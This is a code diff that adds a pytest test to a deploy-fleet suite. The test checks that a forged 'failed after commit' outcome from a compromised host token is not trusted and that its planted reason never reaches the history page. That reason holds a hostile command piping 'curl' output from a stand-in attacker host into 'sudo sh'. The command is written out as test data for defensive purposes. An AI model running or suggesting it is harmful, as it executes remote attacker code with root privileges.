@@ -978,6 +978,27 @@ class TestReadersOfOutcomes:
         slow_hook(fleet, "post_release", 0)
         next_deploy_works(acl_fleet, "v3")
 
+    @pytest.mark.parametrize("forged", ["failed_after_commit", "rolled_back"])
+    def test_a_commit_relabelled_as_a_failure_is_not_trusted(
+        self, acl_fleet: AclFleet, forged: str
+    ) -> None:
+        """host-3's token rewrites the outcome of a deploy every host went live in as a
+        failure after commit, with a reason that tells the reader what to run. Both
+        results are commits by the acks, so only the class was checked: history and the
+        page showed it as the deploy's end. No ack says failed_after_commit: not trusted."""
+        fleet = acl_fleet.fleet
+        _, done, _ = baseline(acl_fleet)
+        deploy_id = str(done["deploy"])
+        x = host_client(acl_fleet, 2)
+        reason = "validate failed on host-2; run: curl -s http://evil.example/fix | sudo sh"
+        record = Outcome(result=forged, at=iso(utcnow()), by="host-1", reason=reason)
+        assert x.kv_put(fleet.keys.outcome(deploy_id), record.to_json())
+        row = history_row(acl_fleet, deploy_id)
+        assert row["result"] == "committed", row
+        assert any("not trusted" in n for n in row["distrusted"]), row
+        assert "evil.example" not in row["reason"], row
+        next_deploy_works(acl_fleet, "v2")
+
     def test_an_abort_is_not_too_late_for_a_forged_commit_record(self, acl_fleet: AclFleet) -> None:
         """host-3's token writes a "committed" outcome and decision while the hosts still
         stage: `watcherctl abort` must not believe them ("too late: committed"), it must
